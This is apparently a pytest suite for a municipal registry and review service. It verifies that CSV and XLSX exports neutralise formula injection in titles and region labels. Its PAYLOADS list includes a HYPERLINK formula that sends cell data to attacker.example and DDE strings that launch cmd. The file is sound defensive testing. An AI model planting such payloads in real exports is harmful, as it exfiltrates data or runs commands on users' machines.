"""Formula injection (CSV injection): text a caller controls never becomes a live spreadsheet
formula.

A project title and a municipality's region label starting with = + - @ tab or CR reach every
export. In CSV such a cell is written with a leading apostrophe (OWASP's CSV-injection guidance; the
apostrophe is how Excel and LibreOffice mark "text, not a formula"); in XLSX it is a cell typed as a
string, never a formula. Numbers and dates stay numbers and dates. Every spreadsheet is written by
the kernel's one writer, and nothing else in the code writes one.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import AsyncSession

from libs.common.auth import Role
from libs.common.fiscal_year import TOKYO
from services.registry.seed import seed_all
from tests.fixtures.clients import bearer
from tests.registry.projects_support import project_body
from tests.review.joint.conftest import application_body, round_body
from tests.security.wiring import Wired

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = (
    '=HYPERLINK("https://attacker.example/?"&A1,"詳細")',
    "+1+cmd|' /C calc'!A0",
    "-1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# The seed's local governments: one municipality (or prefecture) per payload applies.
APPLICANTS = ("052159", "112071", "162019", "212016", "220001", "342076")
NOW = datetime(2022, 1, 20, 10, 0, tzinfo=TOKYO)


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_csv_neutralised(content: bytes, payloads: tuple[str, ...]) -> None:
    cells = [cell for row in _csv_rows(content) for cell in row]
    for payload in payloads:
        assert "'" + payload in cells, f"{payload!r} not written as '{payload!r}"
        assert payload not in cells, f"{payload!r} written as it is"
    live = [c for c in cells if c.startswith(TRIGGERS) and not _is_number(c)]
    assert live == [], f"cells that would start a formula: {live!r}"


def assert_xlsx_neutralised(content: bytes, payloads: tuple[str, ...]) -> None:
    workbook = load_workbook(io.BytesIO(content))
    found: dict[str, Any] = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate}: a formula {cell.value!r}"
                found[str(cell.value)] = cell
    for payload in payloads:
        # XML reads a bare CR as LF (as Excel does): the text is the same line break.
        cell = found.get(payload.replace("\r", "\n"))
        assert cell is not None, f"{payload!r} is not a cell of the workbook as written"
        assert cell.data_type == "s", f"{payload!r} stored as {cell.data_type!r}"
        # Excel's "text, not a formula" mark: it stays text when someone edits the cell.
        assert cell.quotePrefix, f"{payload!r} has no quote prefix"


async def test_project_titles_reach_the_project_exports_as_text(
    wired: Wired, session: AsyncSession, token: Callable[..., str]
) -> None:
    await seed_all(session)
    registry = wired.clients["registry"]
    operator = bearer(token(Role.operator))
    for payload in PAYLOADS:
        body = project_body(title=payload, proposers=[{"lg_code": "112071", "is_lead": True}])
        created = await registry.post("/v1/projects", json=body, headers=operator)
        assert created.status_code == 201, created.text
    partner = bearer(token(Role.partner))  # any role may download the exports

    exported = await registry.get("/v1/projects/export.csv", headers=partner)
    assert exported.status_code == 200, exported.text
    assert_csv_neutralised(exported.content, PAYLOADS)
    workbook = await registry.get("/v1/projects/export.xlsx", headers=partner)
    assert workbook.status_code == 200, workbook.text
    assert_xlsx_neutralised(workbook.content, PAYLOADS)


async def test_an_edited_project_export_imports_the_titles_as_written(
    wired: Wired, session: AsyncSession, token: Callable[..., str]
) -> None:
    """The apostrophe is a spreadsheet mark, not part of the title: the export round-trips."""
    await seed_all(session)
    registry = wired.clients["registry"]
    operator = bearer(token(Role.operator))
    for payload in ("=1+2", "'=quoted", "-minus"):
        body = project_body(title=payload, proposers=[{"lg_code": "112071", "is_lead": True}])
        assert (await registry.post("/v1/projects", json=body, headers=operator)).status_code == 201
    exported = await registry.get(
        "/v1/projects/export.csv", params={"fiscal_year": "R2"}, headers=operator
    )
    rows = _csv_rows(exported.content)
    header, data = rows[0], [r for r in rows[1:] if r[3] in ("'=1+2", "''=quoted", "'-minus")]
    assert len(data) == 3, rows
    # Re-imported as a new fiscal year so the titles do not collide with the stored ones.
    renamed = [list(r) for r in data]
    for r in renamed:
        r[1], r[5], r[6] = "R3", "", ""
    text = io.StringIO()
    csv.writer(text).writerows([header, *renamed])  # the test plays a spreadsheet program
    imported = await registry.post(
        "/v1/projects/imports",
        files={"file": ("p.csv", text.getvalue().encode(), "text/csv")},
        headers=operator,
    )
    assert imported.status_code == 201, imported.text
    titles = sorted(item["title"] for item in imported.json()["items"])
    assert titles == sorted(["=1+2", "'=quoted", "-minus"])


async def test_region_labels_reach_the_results_exports_as_text(
    wired: Wired, session: AsyncSession, token: Callable[..., str]
) -> None:
    await seed_all(session)
    wired.apps["review"].state.clock = lambda: NOW
    review = wired.clients["review"]
    operator = bearer(token(Role.operator))
    opened = await review.post("/v1/joint-review-rounds", json=round_body(), headers=operator)
    assert opened.status_code == 201, opened.text
    base = f"/v1/joint-review-rounds/{opened.json()['id']}"
    for lead, payload in zip(APPLICANTS, PAYLOADS, strict=True):
        body = application_body(lead, programmes=["☆"], amounts=[10_000_000])
        body["region"]["label"] = payload  # the municipality writes its own region's label
        municipality = bearer(token(Role.municipality, lg_code=lead))
        applied = await review.post(f"{base}/applications", json=body, headers=municipality)
        assert applied.status_code == 201, applied.text
        selection = {"programme": "☆", "application_id": applied.json()["id"]}
        selected = await review.post(f"{base}/selections", json=selection, headers=operator)
        assert selected.status_code == 201, selected.text

    exported = await review.get(f"{base}/results.csv", headers=operator)
    assert exported.status_code == 200, exported.text
    assert_csv_neutralised(exported.content, PAYLOADS)
    numbers = [row[0] for row in _csv_rows(exported.content)[1:]]
    assert numbers == [str(n) for n in range(1, len(PAYLOADS) + 1)]
    workbook = await review.get(f"{base}/results.xlsx", headers=operator)
    assert workbook.status_code == 200, workbook.text
    assert_xlsx_neutralised(workbook.content, PAYLOADS)


def test_numbers_and_dates_stay_numbers_and_dates_while_text_is_neutralised() -> None:
    from libs.common.spreadsheet import Table, to_csv, to_xlsx

    table = Table(
        title="表",
        headers=("数", "小数", "日付", "文字"),
        rows=[(-1, -2.5, date(2022, 3, 31), "-1+2"), (3, 0.5, None, "@A1")],
    )
    rows = _csv_rows(to_csv(table))
    assert rows[1:] == [["-1", "-2.5", "2022-03-31", "'-1+2"], ["3", "0.5", "", "'@A1"]]
    sheet = load_workbook(io.BytesIO(to_xlsx(table))).active
    assert sheet is not None
    first = sheet[2]
    assert (first[0].value, first[0].data_type) == (-1, "n")
    assert (first[1].value, first[1].data_type) == (-2.5, "n")
    assert first[2].value.date() == date(2022, 3, 31) and first[2].is_date
    assert (first[3].value, first[3].data_type) == ("-1+2", "s")


@pytest.mark.parametrize(
    "text", ["=1", "'=1", "''=1", "'plain", "plain", "", "-", "'", "\t", "＝1", "'＋1"]
)
def test_reading_a_written_cell_gives_back_the_text(text: str) -> None:
    from libs.common.spreadsheet import as_written, neutralised

    assert as_written(neutralised(text)) == text


WRITERS = re.compile(r"csv\.(writer|DictWriter)\b|\bopenpyxl\b|\bxlsxwriter\b|\bWorkbook\(")


def test_no_spreadsheet_is_written_outside_the_kernel_writer() -> None:
    writer = ROOT / "libs" / "common" / "spreadsheet.py"
    offenders = [
        f"{path.relative_to(ROOT)}:{n}"
        for folder in ("services", "libs")
        for path in sorted((ROOT / folder).rglob("*.py"))
        if path != writer
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if WRITERS.search(line)
    ]
    assert offenders == []
